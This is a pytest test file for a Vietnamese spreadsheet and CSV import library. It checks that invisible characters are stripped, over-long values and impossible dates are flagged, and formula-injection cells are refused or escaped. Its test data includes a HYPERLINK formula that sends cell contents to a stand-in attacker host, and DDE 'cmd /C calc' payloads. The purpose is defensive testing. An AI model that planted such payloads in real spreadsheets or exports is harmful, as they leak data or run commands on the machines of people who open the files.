"""Hostile cells (#9.4, #9.10): invisible characters, formula injection, values too long for the database,
impossible dates in required columns and a year where a full date is needed. Real .xlsx files and CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io

import polars as pl
import pytest
import xlsxwriter

from ansinh.core.tabular import (
    Field,
    Schema,
    add_errors,
    csv_safe,
    csv_safe_expr,
    is_blank,
    is_refused,
    parse_columns,
    read_table,
)
from ansinh.core.text import clean_name, fold, strip_invisible

TODAY = dt.date(2025, 6, 15)

SCHEMA = Schema(fields=(
    Field("full_name", "Họ và tên", ("Họ tên",), required=True, max_length=120),
    Field("birth", "Ngày sinh", ("Năm sinh",), required=True, kind="date"),
    Field("pid", "Số định danh cá nhân", ("Số CCCD",), kind="identity", max_length=12),
    Field("household_code", "Mã hộ", max_length=8),
    Field("village", "Thôn/xóm", ("Thôn",), max_length=120),
    Field("phone", "Số điện thoại", ("SĐT",), kind="phone"),
    Field("note", "Ghi chú"),
))


def xlsx(path, header, rows, *, numbers=()):
    """Every cell written as a string (``write_string``: "=…" stays text), except the columns in ``numbers``."""
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet()
    for c, h in enumerate(header):
        ws.write_string(0, c, h)
    for r, row in enumerate(rows, start=1):
        for c, v in enumerate(row):
            if v is None:
                continue
            if c in numbers:
                ws.write_number(r, c, v)
            else:
                ws.write_string(r, c, v)
    wb.close()
    return path


def parsed(path, schema=SCHEMA):
    return parse_columns(read_table(path, schema), schema, today=TODAY)


# ------------------------------------------------------------------ invisible characters

def test_zero_width_and_format_characters_are_removed_from_cells_and_headers(tmp_path):
    header = ["Họ và\u200b tên", "\ufeffNgày sinh", "Số\u00a0CCCD", "Thôn\u2060"]
    rows = [
        ["Nguyễn\u200b Văn\u200c An\u200d", "01/02/1950", "0421\u200b85000123", "Thôn\u00a01"],
        ["\ufeffTrần\u00a0Thị\u2060Bình", "\u200b1960", "042185000124\u200e", "Thôn 2\u00ad"],
        ["Lê\u202fVăn\u200bCường", "1970", None, None],
        ["\u200b\u2060", "1980", None, None],
    ]
    raw = read_table(xlsx(tmp_path / "z.xlsx", header, rows), SCHEMA)
    assert raw.headers == ["Họ và tên", "Ngày sinh", "Số CCCD", "Thôn"]
    assert raw.recognised == {"full_name": "Họ và tên", "birth": "Ngày sinh", "pid": "Số CCCD", "village": "Thôn"}
    frame = parse_columns(raw, SCHEMA, today=TODAY)
    assert frame["full_name"].to_list() == ["Nguyễn Văn An", "Trần ThịBình", "Lê VănCường", None]
    assert frame["pid"].to_list() == ["042185000123", "042185000124", None, None]
    assert frame["village"].to_list() == ["Thôn 1", "Thôn 2", None, None]
    assert frame["birth"].to_list()[1] == dt.date(1960, 1, 1)
    assert frame["_errors"].to_list() == [[], [], [], ["Họ và tên: không được để trống."]]
    assert "\u200b" not in "".join(frame["full_name"].drop_nulls().to_list())


def test_invisible_characters_in_a_csv(tmp_path):
    path = tmp_path / "z.csv"
    path.write_text("Họ tên;Năm sinh\nĐỗ\u200b Thị\ufeff Hoa;1970\n", encoding="utf-8-sig")
    assert parsed(path)["full_name"].to_list() == ["Đỗ Thị Hoa"]


def test_text_helpers_drop_invisible_characters():
    assert strip_invisible("Nguy\u200bễn\u00a0An\ufeff") == "Nguyễn An"
    assert clean_name("  Nguyễn\u200b  Văn\u2060 An ") == "Nguyễn Văn An"
    assert fold("Nguy\u200bễn") == "nguyen"


# ------------------------------------------------------------------ formula injection

@pytest.mark.parametrize(("value", "char"), [
    ('=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")', "="),
    ("+cmd|' /C calc'!A0", "+"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "@"),
    ("\t=1+1", "="),
    ("\u200b=1+1", "="),
])
def test_a_text_cell_starting_like_a_formula_is_refused_with_its_cell(tmp_path, value, char):
    rows = [["Nguyễn Văn An", "1950", None], [value, "1960", "ghi chú"], ["Lê Văn C", "1970", value]]
    frame = parsed(xlsx(tmp_path / "f.xlsx", ["Ngày sinh", "Họ và tên", "Ghi chú"],
                        [[r[1], r[0], r[2]] for r in rows]))
    assert frame["full_name"].to_list() == ["Nguyễn Văn An", None, "Lê Văn C"]
    assert frame["note"].to_list() == [None, "ghi chú", None]
    shown = value.strip().replace("\u200b", "")
    shown = shown if len(shown) <= 40 else shown[:40] + "…"
    assert frame["_errors"].to_list()[1] == [  # never accepted as a name, and not «không được để trống» too
        f"Họ và tên: ô B3 «{shown}» bắt đầu bằng ký tự công thức «{char}» (Excel sẽ chạy như một công thức); "
        "hãy xoá ký tự đó ở đầu ô, chỉ ghi chữ, rồi nhập lại."
    ]
    assert frame["_errors"].to_list()[2][0].startswith("Ghi chú: ô C4 «")


def test_a_formula_in_a_csv_and_a_phone_starting_with_plus(tmp_path):
    path = tmp_path / "f.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["Họ và tên", "Ngày sinh", "SĐT"], ["=1+2", "1950", "+84912345678"],
                                  ["- Nguyễn Văn A", "1950", ""]])
    path.write_text(buffer.getvalue(), encoding="utf-8")
    frame = parsed(path)
    assert frame["full_name"].to_list() == [None, "- Nguyễn Văn A"]
    assert frame["phone"].to_list() == ["0912345678", None]  # a phone is not a text cell
    assert "bắt đầu bằng ký tự công thức «=»" in frame["_errors"][0][0]


def test_csv_safe_prefixes_what_a_spreadsheet_would_run():
    for value in ("=HYPERLINK(\"x\")", "+1", "-1+2", "@A1", "\tx", "\rx"):
        assert csv_safe(value) == "'" + value
    for value in ("Nguyễn Văn An", "0912345678", "", " =x", None, 12, -5, 1.5, dt.date(2020, 1, 1)):
        assert csv_safe(value) == value
    series = pl.Series("n", ["=1+1", "An", None, "-x", "@y", "+84"])
    assert pl.select(csv_safe_expr(pl.lit(series))).to_series().to_list() == [
        "'=1+1", "An", None, "'-x", "'@y", "'+84"]


# ------------------------------------------------------------------ values too long

def test_values_longer_than_the_database_column_are_errors_with_the_header(tmp_path):
    long_name = "Nguyễn " * 20 + "An"  # 142 characters
    rows = [[long_name.strip(), "1950", "HT000000001", "042185000123", "Thôn 1"],
            ["Lê Văn C", "1950", "HT01", "042185000124", "x" * 121]]
    frame = parsed(xlsx(tmp_path / "l.xlsx", ["Họ và tên", "Ngày sinh", "Mã hộ", "Số CCCD", "Thôn"], rows))
    assert frame["full_name"].to_list() == [None, "Lê Văn C"]
    assert frame["household_code"].to_list() == [None, "HT01"]
    assert frame["village"].to_list() == ["Thôn 1", None]
    assert frame["_errors"].to_list() == [
        [f"Họ và tên: «{long_name[:40]}…» dài 142 ký tự, tối đa 120 ký tự.",
         "Mã hộ: «HT000000001» dài 11 ký tự, tối đa 8 ký tự."],
        [f"Thôn: «{'x' * 40}…» dài 121 ký tự, tối đa 120 ký tự."],
    ]


def test_max_length_of_identity_and_phone_columns(tmp_path):
    schema = Schema(fields=(
        Field("full_name", "Họ và tên", required=True),
        Field("cmnd", "Số CMND", kind="identity", max_length=9),
        Field("phone", "SĐT", kind="phone", max_length=10),
    ))
    rows = [["A", "183456789", "0912345678"], ["B", "042185000123", "09123456789"]]
    frame = parsed(xlsx(tmp_path / "i.xlsx", ["Họ và tên", "Số CMND", "SĐT"], rows), schema)
    assert frame["cmnd"].to_list() == ["183456789", None]
    assert frame["phone"].to_list() == ["0912345678", None]
    assert frame["_errors"].to_list()[1] == ["Số CMND: «042185000123» dài 12 ký tự, tối đa 9 ký tự.",
                                             "SĐT: «09123456789» dài 11 ký tự, tối đa 10 ký tự."]


def test_field_options_are_checked():
    with pytest.raises(ValueError, match="precision"):
        Field("a", "A", precision="day")
    with pytest.raises(ValueError, match="precision"):
        Field("a", "A", kind="date", precision="hour")
    with pytest.raises(ValueError, match="max_length"):
        Field("a", "A", max_length=0)
    with pytest.raises(ValueError, match="keywords"):
        Field("a", "A", keywords="cccd")


# ------------------------------------------------------------------ dates

@pytest.mark.parametrize(("text", "message"), [
    ("31/02/2020", "Ngày sinh: Ngày 31/02/2020 không tồn tại."),
    ("2020-13-45", "Ngày sinh: Ngày 45/13/2020 không tồn tại."),
    ("13/2020", "Ngày sinh: Tháng 13/2020 không tồn tại."),
    ("ngày 30 tháng 2 năm 2020", "Ngày sinh: Ngày 30/02/2020 không tồn tại."),
])
def test_an_impossible_date_in_a_required_column_has_one_message(tmp_path, text, message):
    frame = parsed(xlsx(tmp_path / "d.xlsx", ["Họ và tên", "Ngày sinh"], [["A", text], ["B", None], ["C", "2020"]]))
    assert frame["_errors"].to_list() == [[message], ["Ngày sinh: không được để trống."], []]
    # a domain rule "… requires a date" uses is_blank: no contradictory second message for the refused date
    frame = add_errors(frame, is_blank("birth"), "Thiếu ngày sinh.")
    assert frame["_errors"].to_list() == [[message], ["Ngày sinh: không được để trống.", "Thiếu ngày sinh."], []]
    assert frame.select(is_refused("birth").alias("r"))["r"].to_list() == [True, False, False]
    assert frame["_refused"].to_list() == [["birth"], [], []]


def test_is_blank_for_a_column_the_file_does_not_have(tmp_path):
    frame = parsed(xlsx(tmp_path / "d.xlsx", ["Họ và tên", "Ngày sinh"], [["A", "1950"]]))
    assert frame.select(is_blank("pid"), is_blank("full_name").alias("name")).row(0) == (True, False)


PAYMENTS = Schema(fields=(
    Field("seq", "STT", required=True, kind="int"),
    Field("paid_date", "Ngày chi trả", kind="date", precision="day"),
    Field("month", "Tháng hưởng", kind="date", precision="month"),
))


def test_a_year_is_refused_where_a_full_date_is_required(tmp_path):
    """#9.6: a paid date "2020" was stored as 01/01/2020."""
    rows = [[1, "2020", "03/2020"], [2, 2020, "2020"], [3, "05/2020", "05/03/2020"], [4, "05/03/2020", None],
            [5, "31/02/2020", None], [6, 43900, None]]
    frame = parse_columns(read_table(_payments(tmp_path, rows), PAYMENTS), PAYMENTS, today=TODAY)
    assert frame["paid_date"].to_list() == [None, None, None, dt.date(2020, 3, 5), None, dt.date(2020, 3, 10)]
    assert frame["paid_date_precision"].to_list() == [None, None, None, "day", None, "day"]
    assert frame["month"].to_list() == [dt.date(2020, 3, 1), None, dt.date(2020, 3, 5), None, None, None]
    assert frame["_errors"].to_list() == [
        ["Ngày chi trả: «2020» chỉ có năm; cần ghi đủ ngày/tháng/năm (ví dụ 05/03/2020)."],
        ["Ngày chi trả: «2020» chỉ có năm; cần ghi đủ ngày/tháng/năm (ví dụ 05/03/2020).",
         "Tháng hưởng: «2020» chỉ có năm; cần ghi ít nhất tháng/năm (ví dụ 03/2020)."],
        ["Ngày chi trả: «05/2020» chỉ có tháng/năm; cần ghi đủ ngày/tháng/năm (ví dụ 05/03/2020)."],
        [],
        ["Ngày chi trả: Ngày 31/02/2020 không tồn tại."],
        [],
    ]
    assert frame["_refused"].to_list()[:3] == [["paid_date"], ["paid_date", "month"], ["paid_date"]]


def _payments(tmp_path, rows):
    wb = xlsxwriter.Workbook(str(tmp_path / "p.xlsx"))
    ws = wb.add_worksheet()
    date_fmt = wb.add_format({"num_format": "dd/mm/yyyy"})
    ws.write_row(0, 0, ["STT", "Ngày chi trả", "Tháng hưởng"])
    for r, row in enumerate(rows, start=1):
        for c, v in enumerate(row):
            if v is None:
                continue
            if isinstance(v, int) and v > 40000:
                ws.write_number(r, c, v, date_fmt)  # an Excel date cell (10/03/2020)
            elif isinstance(v, int):
                ws.write_number(r, c, v)
            else:
                ws.write_string(r, c, v)
    wb.close()
    return tmp_path / "p.xlsx"


def test_without_precision_a_year_is_still_a_year(tmp_path):
    frame = parsed(xlsx(tmp_path / "y.xlsx", ["Họ và tên", "Năm sinh"], [["A", "1945"]]))
    assert (frame["birth"][0], frame["birth_precision"][0]) == (dt.date(1945, 1, 1), "year")


# ------------------------------------------------------------------ speed

def test_parsing_stays_vectorised_on_a_large_file(tmp_path):
    """200.000 rows with hostile values here and there: read + parse well under the time a Python loop takes."""
    import time

    n = 200_000
    names = [f"Nguyễn Văn {i}" if i % 1000 else "=HYPERLINK(\"x\")" for i in range(n)]
    births = [f"{1 + i % 28:02d}/{1 + i % 12:02d}/19{50 + i % 50}" if i % 997 else "31/02/2020" for i in range(n)]
    path = tmp_path / "lon.csv"
    pl.DataFrame({"Họ và tên": names, "Ngày sinh": births, "Số CCCD": [f"0421{i:08d}" for i in range(n)],
                  "Mã": [f"0421{i:08d}" for i in range(n)]}).write_csv(path)
    start = time.perf_counter()
    raw = read_table(path, SCHEMA)
    frame = parse_columns(raw, SCHEMA, today=TODAY)
    elapsed = time.perf_counter() - start
    print(f"read + parse of {n} rows: {elapsed:.2f} s")
    assert raw.suspect_identity_columns == ["Mã"]
    assert frame.filter(pl.col("_errors").list.len() > 0).height == 200 + 201 - 1  # row 0 has both
    assert elapsed < 20
